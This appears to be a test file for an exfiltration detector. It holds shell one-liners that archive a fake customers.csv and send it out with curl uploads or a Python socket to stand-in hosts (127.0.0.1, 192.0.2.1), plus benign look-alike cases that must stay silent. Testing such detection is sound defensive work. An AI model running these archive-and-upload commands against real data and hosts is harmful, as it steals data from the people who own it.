"""Data is packed and sent, and data is fetched and unpacked."""

from detections.case import Case

_PREPARED = """
import os, pathlib, subprocess, sys
os.chdir(sys.argv[1])
pathlib.Path("data").mkdir()
pathlib.Path("data/customers.csv").write_text("a,b\\n")
subprocess.run(["/bin/sh", "-c", '''{script}'''])
"""


def _script(text: str) -> str:
    return _PREPARED.replace("{script}", text)


ATTACKS = (
    Case(
        name="tar, then curl",
        run=_script("tar czf loot.tgz data; curl -s -T loot.tgz http://127.0.0.1:1/; true"),
        needs=("curl",),
        fires=("archive-and-upload",),
    ),
    Case(
        name="a pipe",
        run=_script("tar cz data | curl -s --data-binary @- http://127.0.0.1:1/; true"),
        needs=("curl",),
        fires=("archive-and-upload",),
    ),
    Case(
        name="gzip, then a connection of its own by Python",
        run=_script(
            "gzip -k data/customers.csv; "
            + "python3 -c 'import socket; s = socket.socket(); s.setblocking(0); "
            + 's.connect_ex(("192.0.2.1", 443))'
            + "'; true"
        ),
        fires=("archive-and-upload",),
    ),
)

LOOK_ALIKES = (
    Case(
        name="a download that is unpacked",
        run=_script(
            "curl -s -o x.tgz http://127.0.0.1:1/x.tgz; tar xzf x.tgz; curl -s http://127.0.0.1:1/done; true"
        ),
        needs=("curl",),
        silent=("archive-and-upload",),
    ),
    Case(
        name="a list of an archive, then an upload",
        run=_script(
            "tar tzf none.tgz; gzip -dc none.gz; curl -s -T data/customers.csv http://127.0.0.1:1/; true"
        ),
        needs=("curl",),
        silent=("archive-and-upload",),
    ),
)
